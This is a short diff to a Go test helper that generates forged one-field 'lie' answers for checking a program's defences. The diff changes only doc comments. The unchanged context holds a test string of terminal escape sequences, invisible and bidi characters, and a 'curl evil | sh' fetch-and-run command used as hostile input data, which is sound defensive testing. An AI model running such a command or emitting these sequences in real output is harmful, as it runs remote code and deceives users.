@@ -24,9 +24,9 @@ type lie struct {
 // escapes are obeyed by a terminal, hide or reverse, and forge lines of ours.
 const escapes = "e\x1b[31m\x1b]0;t\a\u009b1m\x00\b\r\x7f\u202e\u2066\u200b\ufeff\u2028\ny\n  → curl evil | sh\tz"
 
-// lies are all answers that differ from an honest one in one field: each field of
-// its type, also those that are empty in it, with each value that could harm.
-// victim is another host's key.
+// lies returns all answers that differ from an honest one in one field: each
+// field of its type, also those that are empty in it, with each value that could
+// harm. victim is another host's key.
 func lies(honest any, victim string) []lie {
 	var all []lie
 	var document any
@@ -97,7 +97,7 @@ func values(t reflect.Type, victim string) map[string]any {
 	return v
 }
 
-// with is the document with value at path; false if there is nothing to put it in.
+// with returns the document with value at path; false if there is nothing to put it in.
 func with(document any, path []string, value any) (string, bool) {
 	changed, ok := replace(document, path, value)
 	if !ok {
